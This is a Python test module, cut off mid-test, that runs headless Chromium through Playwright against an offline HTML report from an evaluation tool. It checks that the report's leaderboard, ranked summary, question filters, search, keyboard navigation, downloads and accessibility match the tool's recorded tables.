"""The HTML report in a real browser: Debian's Chromium, headless, driven by Playwright, with the network blocked.

The page ``trac report --html`` writes for two models × two tasks opens from file:// with no console error and no
request; its header shows each pair's probe cache share; its ranked summary and leaderboard are ``trac report``'s
tables and its downloads their CSV files; the per-pair table keeps its labels beside every method column at 1440 px
and no tab overflows a 390 px screen; a copied link reopens the same state and Back / Forward step between questions;
the search finds a question by a phrase of its text; the keyboard alone switches tabs, sorts, opens, steps and closes;
axe-core finds no serious accessibility violation; sorting, the "confidently wrong" filter, a question's trace, probe
answer and scores, the side-by-side view and the figures show what the records hold. A screenshot of an opened
question is saved (and, with ``TRAC_UPDATE_SCREENSHOTS=1``, written to ``docs/images/html_report.png``). A page of
1,100 questions lists 100 rows at a time: the keyboard steps across pages, the open question survives a sort and a
filter, and the download holds every listed question.

Chromium must be installed (``scripts/setup_env.sh``: ``apt-get install chromium``), and axe-playwright-python
(``scripts/setup_env.sh``); without them these tests fail.
"""

from __future__ import annotations

import importlib.metadata
import json
import math
import os
import re
import shutil
import warnings
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import numpy as np
import pandas as pd
import pytest
from axe_playwright_python.sync_playwright import Axe
from html_browser import check_fits_a_phone, check_ranked_claims, loaded, opened
from html_report_runs import (
    MARKER,
    SUBJECTS,
    confidently_wrong_from_records,
    prompt_of,
    rewrite_records,
    write_tokenized_runs,
)
from playwright.sync_api import Browser, BrowserContext, Page, expect
from testenv import REPO

from trac_metrics._warnings import TracWarning
from trac_metrics.cli import main
from trac_metrics.features.probe_agreement import UNINFORMATIVE_NOTE
from trac_metrics.features.vectors import TAIL_WINDOW
from trac_metrics.methods import get
from trac_metrics.records import iter_records
from trac_metrics.reporting.analyses import all_analyses
from trac_metrics.reporting.model.model_comparison import compare_accuracy
from trac_metrics.reporting.report_data import build_report_data
from trac_metrics.reporting.runs import evaluate_pairs, load_pairs
from trac_metrics.reporting.summary_table import probe_cache_line
from trac_metrics.reporting.tables import format_p
from trac_metrics.selective import (
    METRIC_DEFINITIONS,
    METRIC_LABELS,
    METRIC_NAMES,
    reliability_bins,
    risk_coverage_curve,
)

pytestmark = pytest.mark.xdist_group("html_report_browser")  # one worker, one browser for the whole module

MODELS, TASKS, N_QUESTIONS, K = ["model-a", "model-b"], ["task-x", "task-y"], 30, 4
SCREENSHOT = REPO / "docs" / "images" / "html_report.png"
PAGE_SIZE = 100
"""Rows of the question list in the page at a time."""


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory, tiny_tokenizer, tiny_model: Path) -> dict:
    """The runs, ``trac report``'s folder for them and the HTML page, written by the command line."""
    root = tmp_path_factory.mktemp("browser_report")
    runs = root / "runs"
    write_tokenized_runs(runs, tiny_tokenizer, MODELS, TASKS, N_QUESTIONS, k=K, samples_for=("model-a",))
    html = root / "report.html"
    arguments = ["report", str(runs), "--out", str(root / "tables"), "--html", str(html)]
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", TracWarning)
        main([*arguments, "--tokenizer", str(tiny_model), "--resamples", "50", "--jobs", "1"])
        pairs = load_pairs([runs], jobs=1)
        evaluations = evaluate_pairs(pairs, jobs=1)
    return {"runs": runs, "tables": root / "tables", "html": html, "pairs": pairs, "evaluations": evaluations}


@pytest.fixture
def page(context: BrowserContext, written: dict) -> Iterator[Page]:
    """The report opened from file:// at 1440 px."""
    with opened(context, written["html"].as_uri(), written["html"]) as page:
        yield page


@pytest.fixture
def phone(browser: Browser, written: dict) -> Iterator[Page]:
    """The report opened from file:// on a 390 px wide screen."""
    context = browser.new_context(offline=True, viewport={"width": 390, "height": 844})
    with opened(context, written["html"].as_uri(), written["html"]) as page:
        yield page
    context.close()


def cells(page: Page, selector: str) -> list[list[str | None]]:
    """Each body row of a table: a numeric cell's value (``data-value``; None for nan), else its text (without the
    "?" of a definition)."""
    return page.eval_on_selector_all(
        f"{selector} tbody tr",
        """rows => rows.map(row => [...row.children].map(cell => {
            if (cell.classList.contains('num')) return cell.dataset.value ?? null;
            const copy = cell.cloneNode(true);
            copy.querySelectorAll('.help-wrap').forEach(node => node.remove());
            return copy.textContent;
        }))""",
    )


def headings(page: Page, selector: str) -> list[str]:
    """A sortable table's column names: the text of each header's sort button."""
    return page.eval_on_selector_all(
        f"{selector} thead th button.sort", "buttons => buttons.map(node => node.textContent)"
    )


def test_the_page_opens_offline_with_its_leaderboard(page: Page, written: dict) -> None:
    assert page.title() == "TrAC report"
    assert page.eval_on_selector("#tabs button[aria-selected=true]", "button => button.dataset.tab") == "leaderboard"
    assert "4 (model, task) pair(s), 2 model(s), 2 task(s), 120 questions" in page.inner_text("#report-summary")
    # the header: each pair's probe cache share (its numbers are checked against the records without a browser)
    assert page.eval_on_selector_all("#report-cache li", "items => items.map(item => item.innerText)") == [
        f"{pair.model} / {pair.task} (T=0.7→greedy): {probe_cache_line(pair.probe_cache)}" for pair in written["pairs"]
    ]
    # and its probe agreement on correct and wrong responses beside the paper's (docs/method.md#probe-agreement),
    # marked where it carries no signal
    shown = page.eval_on_selector_all(
        "#report-probe li", "items => items.map(item => [item.innerText, item.classList.contains('warning')])"
    )
    assert shown == [
        [
            f"{pair.model} / {pair.task} (T=0.7→greedy): {pair.probe_agreement.line()}"
            + (f" — {UNINFORMATIVE_NOTE}" if pair.probe_agreement.uninformative else ""),
            pair.probe_agreement.uninformative or pair.probe_agreement.reads_answer,
        ]
        for pair in written["pairs"]
    ]
    assert all("(paper: 87.6 % / 24.7 %)" in text for text, _ in shown)


def test_the_leaderboard_rows_and_values_are_trac_reports_table(page: Page, written: dict) -> None:
    expected = pd.read_csv(written["tables"] / "leaderboard.csv")
    shown = cells(page, "#table-leaderboard")
    assert [row[:2] for row in shown] == expected[["block", "method"]].values.tolist()
    values = np.array([[math.nan if cell is None else float(cell) for cell in row[2:]] for row in shown])
    np.testing.assert_allclose(values, expected.iloc[:, 2:].to_numpy(dtype=float), rtol=1e-12, equal_nan=True)
    headers = headings(page, "#table-leaderboard")
    assert headers == list(expected.columns)


def floats(values: list[str | None]) -> list[float]:
    return [math.nan if value in (None, "") else float(value) for value in values]


def test_the_ranked_summary_comes_first_and_is_trac_reports_ranked_table(page: Page, written: dict) -> None:
    assert page.eval_on_selector("#panel-leaderboard h2", "heading => heading.textContent") == "Who wins, by how much"
    expected = pd.read_csv(written["tables"] / "ranked_summary.csv")
    shown = page.eval_on_selector_all(
        "#ranked-summary tbody tr",
        """rows => rows.map(row => {
            const value = row.querySelector('td.value'), difference = row.querySelector('td.difference');
            return [row.querySelector('th.method').firstChild.textContent,
                    value.dataset.value, value.dataset.lo, value.dataset.hi,
                    difference.dataset.value ?? null, difference.dataset.lo ?? null, difference.dataset.hi ?? null,
                    row.querySelector('td.p').textContent, row.querySelector('.badge.mark')?.textContent ?? ''];
        })""",
    )
    assert [row[0] for row in shown] == expected["method"].tolist()
    numbers = ["macro AUROC", "AUROC lo", "AUROC hi", "difference", "difference lo", "difference hi"]
    np.testing.assert_allclose(
        np.array([floats(row[1:7]) for row in shown]), expected[numbers].to_numpy(float), rtol=1e-12, equal_nan=True
    )
    assert [row[7] for row in shown] == ["" if math.isnan(p) else format_p(p, 50) for p in expected["p"]]
    macro = expected["macro AUROC"].to_numpy()
    assert list(macro) == sorted(macro, reverse=True)
    # the badges are trac report's marks: best, or the band tied with it (docs/method.md#paired-differences)
    marks = expected["mark"].fillna("").str.split("; ")
    assert [row[8] for row in shown] == [next((m for m in found if m != "constant score"), "") for found in marks]
    assert shown[0][8] in ("best", "tied with the best")
    # the Markdown leaderboard lists the same methods in the same order
    markdown = (written["tables"] / "leaderboard.md").read_text().split("## Ranked by macro AUROC")[1].split("##")[0]
    listed = [
        line.split("|")[2].strip() for line in markdown.splitlines() if line.startswith("| ") and "rank" not in line
    ]
    assert listed == expected["method"].tolist()
    # ranked by a lower-is-better metric: ascending, one whisker per method
    page.select_option("#ranked-metric", "aurc")
    aurc = floats(page.eval_on_selector_all("#ranked-summary td.value", "cells => cells.map(c => c.dataset.value)"))
    assert aurc == sorted(aurc) and len(set(aurc)) > 1
    assert page.locator("#ranked-summary svg.whisker .dot").count() >= 2 * len(aurc) - 1
    # the value scale spans the leading ranks: their dots are on it, a weaker method's beyond it is cut and said so
    value_dots = page.eval_on_selector_all(
        "#ranked-summary tbody tr td:nth-child(4) svg.whisker",
        "svgs => svgs.map(node => [node.querySelector('.dot').tagName, node.getAttribute('aria-label')])",
    )
    assert all(tag == "circle" for tag, _ in value_dots[:6])
    assert all((tag == "polygon") <= label.endswith("(off scale)") for tag, label in value_dots)


def test_every_ranked_interval_contains_its_value_and_calibration_shows_the_auroc(page: Page, written: dict) -> None:
    """Issue 47: under every rank-by metric each interval on the summary contains its value, a tied band is barred
    and badged, a constant score is never first on a calibration metric, "best" only where the paired differences to
    the leader exclude 0, and ECE is ranked beside the AUROC."""
    assert {"auroc", "ece", "brier"} <= set(check_ranked_claims(page))
    expected = pd.read_csv(written["tables"] / "ranked_summary.csv")
    page.select_option("#ranked-metric", "ece")
    head = page.eval_on_selector_all("#ranked-summary thead th", "cells => cells.map(c => c.textContent)")
    assert "macro AUROC" in head
    shown = page.eval_on_selector_all(
        "#ranked-summary tbody tr",
        """rows => rows.map(row => [row.querySelector('th.method').firstChild.textContent,
                                    row.querySelector('td.auroc').dataset.value])""",
    )
    auroc = dict(zip(expected["method"], expected["macro AUROC"]))
    assert [float(value) for _, value in shown] == pytest.approx([auroc[method] for method, _ in shown], rel=1e-12)
    assert "equal-mass bins" in page.inner_text("#ranked-metric-definition")
    # any method as the reference (a headline metric), kept in the link with the rank-by metric
    page.select_option("#ranked-metric", "auroc")
    page.select_option("#ranked-against", "trac")
    rows = page.eval_on_selector_all(
        "#ranked-summary tbody tr",
        """rows => rows.map(row => [row.dataset.method, +row.querySelector('td.value').dataset.value,
                                    row.querySelector('td.difference').dataset.value ?? null,
                                    row.querySelector('td.difference').textContent])""",
    )
    trac = next(value for method, value, _, _ in rows if method == "trac")
    for method, value, difference, text in rows:
        if method == "trac":
            assert text == "reference"
        else:
            assert float(difference) == pytest.approx(value - trac, abs=1e-6)  # 6 significant digits
    assert "against=trac" in page.url
    page.select_option("#ranked-metric", "brier")
    assert page.is_disabled("#ranked-against") and "rank=brier" in page.url
    with opened(page.context, page.url, written["html"]) as again:
        assert again.input_value("#ranked-metric") == "brier" and again.input_value("#ranked-against") == "trac"


def test_every_method_and_metric_says_what_it_is_in_place_without_opening_raw_markdown(page: Page) -> None:
    """Issue 47: with no --docs-url the page links no docs file (a checkout's docs are Markdown a browser shows as
    source): a "?" gives the definition on hover and, clicked, in a box beside it that names its docs section; a
    page written with --docs-url links the sections there (test_html_page_views)."""
    assert page.locator("a[href$='.md'], a[href*='.md#']").count() == 0
    columns = page.eval_on_selector_all(
        "#pair-table thead th",
        "cells => cells.map(cell => [cell.dataset.key, cell.querySelector('button.help')?.title ?? null])",
    )
    methods = [(key, title) for key, title in columns if key not in ("pair", "n", "k", "accuracy", "majority")]
    assert len(methods) >= 10
    assert all(title == get(key).summary for key, title in methods), methods
    header = page.locator("#pair-table thead th[data-key=trac]")
    box = header.locator(".help-box")
    assert box.is_hidden()
    header.locator("button.help").click()
    assert box.is_visible() and box.inner_text() == f"{get('trac').summary} ({get('trac').doc})"
    assert header.get_attribute("aria-sort") == "none"  # the "?" explains, it does not sort
    header.locator("button.help").press("Escape")
    assert box.is_hidden()
    ranked = page.locator("#ranked-summary tbody th.method button.help")
    assert ranked.count() == page.locator("#ranked-summary tbody tr").count()
    page.select_option("#pair-metric", "prr")
    summary, doc = METRIC_DEFINITIONS["prr"]
    assert f"{summary} ({doc})" in page.text_content("#pair-metric-definition")
    page.click("#glossary summary")
    terms = page.eval_on_selector_all("#glossary dt", "terms => terms.map(term => term.textContent)")
    methods = page.evaluate("JSON.parse(document.getElementById('trac-data').textContent).methods")
    assert sorted(terms[: len(methods)]) == sorted(method["label"] for method in methods)
    assert terms[len(methods) :] == [METRIC_LABELS[name] for name in METRIC_NAMES]
    footer = page.locator("#report-footer")
    assert f"trac-eval {importlib.metadata.version('trac-eval')}" in footer.text_content()
    assert "docs/method.md" in footer.text_content() and footer.locator("a").count() == 0


def test_every_tab_lists_the_methods_in_one_order(page: Page, written: dict) -> None:
    data = page.evaluate("JSON.parse(document.getElementById('trac-data').textContent)")
    leaderboard = data["leaderboard_methods"]
    others = [method["name"] for method in data["methods"] if method["name"] not in leaderboard]
    columns = page.eval_on_selector_all("#pair-table thead th", "cells => cells.map(cell => cell.dataset.key)")
    assert columns[-len(leaderboard) :] == leaderboard
    label = {method["name"]: method["label"] for method in data["methods"]}
    page.click("#glossary summary")
    glossary = page.eval_on_selector_all(
        "#glossary dl:first-of-type dt", "terms => terms.map(term => term.textContent)"
    )
    assert glossary == [label[name] for name in leaderboard + others]
    page.click("button[data-tab=figures]")
    figures = page.eval_on_selector_all("#figure-method option", "options => options.map(option => option.value)")
    assert figures == leaderboard
    page.click("button[data-tab=questions]")
    chosen = page.eval_on_selector_all("#confidence-method option", "options => options.map(option => option.value)")
    assert chosen == leaderboard + others
    page.goto(f"{written['html'].as_uri()}#tab=questions&open=0:3")
    page.wait_for_selector(loaded("#question-view"), state="attached")
    rows = page.eval_on_selector_all("#question-view tr[data-method]", "rows => rows.map(row => row.dataset.method)")
    assert rows == [name for name in leaderboard + others if name in rows]


def test_one_format_per_quantity_no_nan_on_the_page(page: Page, written: dict) -> None:
    for summary in page.locator("#panel-leaderboard details > summary").all():
        summary.click()  # every table of trac report shown
    visible = page.evaluate("document.body.innerText")
    assert "nan" not in re.findall(r"\bnan\b", visible.replace("p = nan", "")), "missing values read —"
    numbers = page.eval_on_selector_all(
        "#pair-table td.num",
        "cells => cells.map(cell => (cell.firstElementChild ?? cell).firstChild?.textContent ?? '')",
    )
    assert all(re.fullmatch(r"|\d+|[+-]?\d\.\d{3}|—", text) for text in numbers), numbers  # 3 decimals, counts whole
    page.select_option("#pair-reference", "sc_modal")  # the macro row's p is worded as trac report words it
    paired = page.evaluate("JSON.parse(document.getElementById('trac-data').textContent).paired.auroc.sc_modal.trac")
    footer = page.eval_on_selector_all("#pair-table tfoot td", "cells => cells.map(cell => cell.textContent)")
    assert any(f"{format_p(paired['p'], 50)} W/T/L" in text for text in footer), footer
    page.goto(f"{written['html'].as_uri()}#tab=questions&open=0:3")
    page.wait_for_selector(loaded("#question-view"), state="attached")
    length = page.text_content("#question-view tr[data-method=trace_length] td.score")
    assert re.fullmatch(r"-\d+", length), length  # a trace length is a whole number of tokens


def test_every_method_column_of_the_pair_table_is_readable_beside_its_labels(page: Page) -> None:
    """Scrolled until each header is in view, the header lies inside the scroll box and the viewport, right of the
    pair labels, which stay in place."""
    count = page.locator("#pair-table thead th").count()
    assert count > 10
    for position in range(1, count):
        boxes = page.eval_on_selector(
            "#pair-table-wrap",
            """(wrap, position) => {
                const header = wrap.querySelectorAll('#pair-table thead th')[position];
                const right = wrap.getBoundingClientRect().left + wrap.clientWidth;
                const over = header.getBoundingClientRect().right - right;
                if (over > 0) wrap.scrollLeft += over;
                const box = node => { const r = node.getBoundingClientRect(); return [r.left, r.right]; };
                return {header: box(header), label: box(wrap.querySelector('tbody tr th.sticky')),
                        labelHeader: box(wrap.querySelector('thead th')),
                        wrap: [wrap.getBoundingClientRect().left, right]};
            }""",
            position,
        )
        left, right = boxes["wrap"]
        assert left - 0.5 <= boxes["header"][0] and boxes["header"][1] <= right + 0.5 <= 1440.5, (position, boxes)
        assert abs(boxes["label"][0] - left) < 1 and abs(boxes["labelHeader"][0] - left) < 1, (position, boxes)
        assert boxes["header"][0] >= boxes["label"][1] - 0.5, (position, boxes)


@pytest.mark.parametrize("tab", ["leaderboard", "figures", "analyses", "questions", "compare"])
def test_a_phone_screen_has_no_horizontal_page_overflow(phone: Page, tab: str) -> None:
    phone.click(f"button[data-tab={tab}]")
    if tab == "questions":
        phone.locator("#question-list tbody tr").first.click()
        phone.wait_for_selector(loaded("#question-view"), state="attached")
        # one column: the opened question under the list, both as wide as the page allows
        list_box, view_box = phone.locator(".list-wrap").bounding_box(), phone.locator("#question-view").bounding_box()
        assert view_box["y"] >= list_box["y"] + list_box["height"] and abs(view_box["x"] - list_box["x"]) < 1
    if tab == "compare":
        phone.wait_for_selector(loaded("#compare-right-view"), state="attached")
    assert phone.evaluate("document.documentElement.scrollWidth") <= 390


def downloaded(page: Page, button: str) -> Path:
    with page.expect_download() as download:
        page.click(button)
    return Path(download.value.path())


def assert_same_table(shown: pd.DataFrame, expected: pd.DataFrame) -> None:
    assert list(shown.columns) == list(expected.columns)
    numeric = [name for name in expected.columns if pd.api.types.is_numeric_dtype(expected[name])]
    labels = [name for name in expected.columns if name not in numeric]
    assert shown[labels].astype(str).values.tolist() == expected[labels].astype(str).values.tolist()
    np.testing.assert_allclose(shown[numeric].to_numpy(float), expected[numeric].to_numpy(float), equal_nan=True)


@pytest.mark.parametrize("name", ["leaderboard", "ranked_summary", "paired_differences"])
def test_a_downloaded_table_is_trac_reports_csv(page: Page, written: dict, name: str) -> None:
    expected = pd.read_csv(written["tables"] / f"{name}.csv")
    if name == "paired_differences":
        page.click("#panel-leaderboard details summary")
    stem = f".downloads[data-stem={name}]"
    assert_same_table(pd.read_csv(downloaded(page, f"{stem} .download-csv")), expected)
    rows = json.loads(downloaded(page, f"{stem} .download-json").read_text())
    assert_same_table(pd.DataFrame(rows).fillna(np.nan), expected)


def test_the_analyses_tab_shows_every_analysis_table_of_trac_report(page: Page, written: dict) -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", TracWarning)
        names = [table.name for table in all_analyses(build_report_data(written["pairs"], n_resamples=10, jobs=1))]
    page.click("button[data-tab=analyses]")
    sections = page.locator("#panel-analyses section.analysis")
    assert [section.get_attribute("id") for section in sections.all()] == [f"analysis-{name}" for name in names]
    markdown = (written["tables"] / "leaderboard.md").read_text(encoding="utf-8")
    filled = 0
    for name in names:
        title = page.inner_text(f"#analysis-{name}-title")
        assert f"## {title}\n" in markdown
        expected = pd.read_csv(written["tables"] / f"{name}.csv")
        section = f"#analysis-{name}"
        if expected.empty:  # the runs cannot fill it: the note says why, and no table is drawn
            assert page.locator(f"{section} table").count() == 0
            assert page.inner_text(f"{section} p.note").startswith("Empty: ")
            continue
        filled += 1
        assert len(cells(page, f"#table-{name}")) == len(expected)
        assert_same_table(pd.read_csv(downloaded(page, f"{section} .download-csv")), expected)
    assert filled >= 4  # the fixture's runs fill the ablations, the blind spot and the transfer tables


def test_the_downloaded_question_list_is_the_listed_questions(page: Page, written: dict) -> None:
    page.click("button[data-tab=questions]")
    page.check("#filter-confidently-wrong")
    shown = pd.read_csv(downloaded(page, ".downloads[data-stem=questions] .download-csv"), dtype={"doc": str})
    expected = confidently_wrong_from_records(written["runs"], "trac")
    assert set(zip(shown["model"], shown["task"], shown["doc"])) == expected and len(shown) == len(expected)
    assert [list(row) for row in shown[["model", "task", "doc"]].values] == ordered_questions(page)
    assert (shown["correct"] == 0).all() and shown["trac score"].is_monotonic_decreasing


@pytest.fixture(scope="module")
def dark(browser: Browser) -> Iterator[BrowserContext]:
    """A browser that prefers a dark colour scheme."""
    context = browser.new_context(offline=True, viewport={"width": 1440, "height": 960}, color_scheme="dark")
    yield context
    context.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("state", ["", "tab=figures", "tab=analyses", "tab=questions&cw=1&open=0:7", "tab=compare"])
def test_axe_core_finds_no_serious_accessibility_violation(
    context: BrowserContext, dark: BrowserContext, written: dict, state: str, scheme: str
) -> None:
    """axe-core (axe-playwright-python) on each tab, a question open (its trace shaded), a pair side by side, in the
    light and the dark colour scheme (axe checks every text's contrast, 4.5:1)."""
    chosen = dark if scheme == "dark" else context
    with opened(chosen, f"{written['html'].as_uri()}#{state}", written["html"]) as page:
        background = page.evaluate("getComputedStyle(document.body).backgroundColor")
        assert (background == "rgb(255, 255, 255)") == (scheme == "light"), background
        if "open=" in state:
            page.wait_for_selector(loaded("#question-view"), state="attached")
        if state == "tab=compare":
            page.wait_for_selector(loaded("#compare-right-view"), state="attached")
        violations = Axe().run(page).response["violations"]
    serious = [
        (violation["id"], [node["target"] for node in violation["nodes"]])
        for violation in violations
        if violation["impact"] in ("serious", "critical")
    ]
    assert serious == []


def column(page: Page, table: str, position: int) -> list[float]:
    return [math.nan if row[position] is None else float(row[position]) for row in cells(page, table)]


@pytest.mark.parametrize(("table", "header"), [("#table-leaderboard", "macro AUROC"), ("#pair-table", "TrAC")])
def test_sorting_a_column_orders_its_rows_by_their_numbers(page: Page, table: str, header: str) -> None:
    headers = headings(page, table)
    position = headers.index(header)
    target = page.locator(f"{table} thead th").nth(position)
    target.click()
    assert target.get_attribute("aria-sort") == "descending"
    values = column(page, table, position)
    defined = [value for value in values if not math.isnan(value)]
    assert defined == sorted(defined, reverse=True) and len(set(defined)) > 1
    assert all(math.isnan(value) for value in values[len(defined) :]), "missing values sort last"
    target.click()
    assert target.get_attribute("aria-sort") == "ascending"
    assert [value for value in column(page, table, position) if not math.isnan(value)] == sorted(defined)


def listed_questions(page: Page) -> set[tuple[str, str, str]]:
    rows = page.eval_on_selector_all(
        "#question-list tbody tr", "rows => rows.map(row => [...row.children].slice(0, 3).map(c => c.textContent))"
    )
    return {tuple(row) for row in rows}


@pytest.mark.parametrize("method", ["trac", "mean_logprob"])
def test_the_confidently_wrong_filter_shows_exactly_what_the_records_select(page: Page, written: dict, method) -> None:
    page.click("button[data-tab=questions]")
    total = len(MODELS) * len(TASKS) * N_QUESTIONS
    assert page.inner_text("#question-count") == f"{total} question(s)"
    assert len(listed_questions(page)) == min(total, PAGE_SIZE)
    page.select_option("#confidence-method", method)
    page.check("#filter-confidently-wrong")
    expected = confidently_wrong_from_records(written["runs"], method)
    assert expected and listed_questions(page) == expected
    assert page.inner_text("#question-count") == f"{len(expected)} question(s)"
    page.check("#filter-disagrees")
    shown = listed_questions(page)
    assert shown <= expected
    disagreeing = {
        (pair.model, pair.task, str(evidence["doc_id"]))
        for pair in written["pairs"]
        for evidence in pair.evidences
        if evidence["agree"] == 0
    }
    assert shown == expected & disagreeing


def ordered_questions(page: Page) -> list[list[str]]:
    return page.eval_on_selector_all(
        "#question-list tbody tr", "rows => rows.map(row => [...row.children].slice(0, 3).map(c => c.textContent))"
    )


def opened_title(page: Page) -> str:
    page.wait_for_selector(loaded("#question-view"), state="attached")
    return page.inner_text("#question-view h3")


def test_a_copied_link_reopens_the_same_state_and_back_forward_step_between_questions(
    page: Page, browser: Browser, written: dict
) -> None:
    page.click("button[data-tab=questions]")
    page.select_option("#filter-model", "model-a")
    page.select_option("#filter-label", "wrong")
    page.select_option("#sort-method", "mean_logprob")
    page.fill("#question-search", "pastries")
    page.wait_for_url(re.compile(r"q=pastries"))
    page.click("#question-list thead th[data-key=doc] button")
    rows = page.locator("#question-list tbody tr")
    rows.nth(0).click()
    first = opened_title(page)
    rows.nth(2).click()
    second = opened_title(page)
    assert first != second and "model-a" in second
    listed = ordered_questions(page)
    assert {row[0] for row in listed} == {"model-a"} and len(listed) > 3
    other = browser.new_context(offline=True, viewport={"width": 1440, "height": 960})
    with opened(other, page.url, written["html"]) as fresh:
        assert fresh.get_attribute("#tab-questions", "aria-selected") == "true"
        assert opened_title(fresh) == second
        assert ordered_questions(fresh) == listed
        assert fresh.input_value("#question-search") == "pastries"
        assert fresh.input_value("#filter-label") == "wrong" and fresh.input_value("#sort-method") == "mean_logprob"
        assert fresh.get_attribute("#question-list thead th[data-key=doc]", "aria-sort") == "descending"
        assert fresh.get_attribute("#question-list tbody tr.open", "data-key") == page.get_attribute(
            "#question-list tbody tr.open", "data-key"
        )
    other.close()
    page.go_back()
    expect(page.locator("#question-view h3")).to_have_text(first)
    page.go_back()
    expect(page.locator("#question-view h3")).to_have_count(0)
    assert ordered_questions(page) == listed  # the filters stay: they replace the entry, they add none
    page.go_forward()
    expect(page.locator("#question-view h3")).to_have_text(first)
    page.go_forward()
    expect(page.locator("#question-view h3")).to_have_text(second)


def test_copy_link_puts_the_address_of_the_open_question_on_the_clipboard(browser: Browser, written: dict) -> None:
    context = browser.new_context(offline=True, viewport={"width": 1440, "height": 960})
    context.grant_permissions(["clipboard-read", "clipboard-write"])
    with opened(context, written["html"].as_uri(), written["html"]) as page:
        open_question(page, "model-b", "task-y", 12)
        page.click("#question-view .copy-link")
        expect(page.locator("#question-view .copy-link")).to_have_text("link copied")
        link = page.evaluate("navigator.clipboard.readText()")
        assert link == page.url and "open=" in link
        title = opened_title(page)
    with opened(context, link, written["html"]) as fresh:
        assert opened_title(fresh) == title == "model-b · task-y · document 12"
    context.close()


def test_copy_as_json_puts_the_open_question_on_the_clipboard(browser: Browser, written: dict, tiny_tokenizer) -> None:
    context = browser.new_context(offline=True, viewport={"width": 1440, "height": 960})
    context.grant_permissions(["clipboard-read", "clipboard-write"])
    record = primary(written["runs"], "model-a", "task-x", 7)
    index = next(i for i, pair in enumerate(written["pairs"]) if (pair.model, pair.task) == ("model-a", "task-x"))
    evaluation = written["evaluations"][index]
    position = evaluation.doc_ids.index(7)
    with opened(context, written["html"].as_uri(), written["html"]) as page:
        open_question(page, "model-a", "task-x", 7)
        page.wait_for_selector(loaded("#question-view"), state="attached")
        page.click("#question-view .copy-question")
        expect(page.locator("#question-view .copy-question")).to_have_text("JSON copied")
        copied = json.loads(page.evaluate("navigator.clipboard.readText()"))
    context.close()
    assert (copied["model"], copied["task"], copied["doc_id"]) == ("model-a", "task-x", "7")
    assert copied["answer"] == record.answer and copied["correct"] == bool(evaluation.labels[position])
    assert copied["prompt"] == prompt_of("model-a", "task-x", 7)
    assert copied["trace"] == tiny_tokenizer.decode(record.token_ids, skip_special_tokens=False)
    assert copied["scores"]["trac"] == pytest.approx(evaluation.scores["trac"][position], rel=1e-5)
    assert copied["metadata"] == {"level": "Level 3", "subject": SUBJECTS[7 % 3]}


def test_the_search_finds_a_question_by_a_phrase_of_its_text(page: Page) -> None:
    page.click("button[data-tab=questions]")
    page.fill("#question-search", "QUESTION 7 of task-y")  # the prompt says "Question 7 of task-y for model-a: ..."
    expect(page.locator("#question-count")).to_have_text("1 question(s)")
    assert listed_questions(page) == {("model-a", "task-y", "7")}
    shown = page.locator("#question-list td.question-text span")
    assert shown.inner_text().startswith("Question 7 of task-y for model-a: how much")
    assert shown.get_attribute("title") == "Question 7 of task-y for model-a: how much are 7 pastries?"
    page.fill("#question-search", r"/question 1\d of TASK-X/")
    expect(page.locator("#question-count")).to_have_text("10 question(s)")
    assert listed_questions(page) == {("model-a", "task-x", str(doc)) for doc in range(10, 20)}
    page.fill("#question-search", "/(/")
    expect(page.locator("#question-count")).to_have_text("0 question(s)")
    assert page.inner_text("#search-note").startswith("not a regular expression")
    # a phrase of the traces alone ("The café sells 23 pastries"): found once the traces are searched too
    page.fill("#question-search", "café sells 23 pastries")
    expect(page.locator("#question-count")).to_have_text("0 question(s)")
    page.check("#search-traces")
    expect(page.locator("#question-count")).to_have_text("4 question(s)")
    assert listed_questions(page) == {(model, task, "23") for model in MODELS for task in TASKS}


def test_the_keyboard_alone_switches_tabs_sorts_opens_steps_and_closes(page: Page) -> None:
    page.focus("#tab-leaderboard")
    page.keyboard.press("ArrowRight")
    page.keyboard.press("ArrowRight")
    assert page.get_attribute("#tab-analyses", "aria-selected") == "true"
    page.keyboard.press("ArrowRight")
    assert page.get_attribute("#tab-questions", "aria-selected") == "true"
    assert page.evaluate("document.activeElement.id") == "tab-questions"
    assert page.is_visible("#panel-questions") and page.is_hidden("#panel-leaderboard")
    assert page.get_attribute("#panel-questions", "aria-labelledby") == "tab-questions"
    page.keyboard.press("End")
    assert page.get_attribute("#tab-compare", "aria-selected") == "true"
    page.keyboard.press("ArrowRight")  # wraps to the first
    assert page.get_attribute("#tab-leaderboard", "aria-selected") == "true"
    page.keyboard.press("ArrowLeft")
    page.keyboard.press("ArrowLeft")
    assert page.get_attribute("#tab-questions", "aria-selected") == "true"
    header = "#question-list thead th[data-key=doc]"
    page.focus(f"{header} button")
    page.keyboard.press("Enter")
    assert page.get_attribute(header, "aria-sort") == "descending"
    page.keyboard.press("Space")
    assert page.get_attribute(header, "aria-sort") == "ascending"
    docs = [row[2] for row in ordered_questions(page)]
    assert docs[:8] == ["0", "0", "0", "0", "1", "1", "1", "1"]
    page.focus("#question-list tbody tr[tabindex='0']")
    page.keyboard.press("Enter")
    keys = page.eval_on_selector_all("#question-list tbody tr", "rows => rows.map(row => row.dataset.key)")
    assert page.get_attribute("#question-list tbody tr.open", "data-key") == keys[0]
    assert opened_title(page).endswith("document 0")
    for key, expected in (("j", 1), ("ArrowDown", 2), ("k", 1), ("ArrowUp", 0), ("j", 1)):
        page.keyboard.press(key)
        expect(page.locator("#question-list tbody tr.open")).to_have_attribute("data-key", keys[expected])
        assert page.evaluate("document.activeElement.dataset.key") == keys[expected]
        page.wait_for_selector(f"#question-view[data-loaded='{keys[expected]}']", state="attached")
    page.keyboard.press("Escape")
    expect(page.locator("#question-view h3")).to_have_count(0)
    assert page.evaluate("document.activeElement.dataset.key") == keys[1]
    assert "open=" not in page.url


def test_one_method_defines_confident_and_orders_the_list_unless_another_is_chosen(page: Page, written: dict) -> None:
    page.click("button[data-tab=questions]")
    page.select_option("#filter-model", "model-a")
    page.select_option("#filter-task", "task-x")
    page.select_option("#confidence-method", "mean_logprob")
    header = "#question-list thead th[data-key=score]"
    assert page.inner_text(header) == "Mean log-probability score"
    index = next(i for i, pair in enumerate(written["pairs"]) if (pair.model, pair.task) == ("model-a", "task-x"))
    evaluation = written["evaluations"][index]
    position = evaluation.doc_ids.index(7)
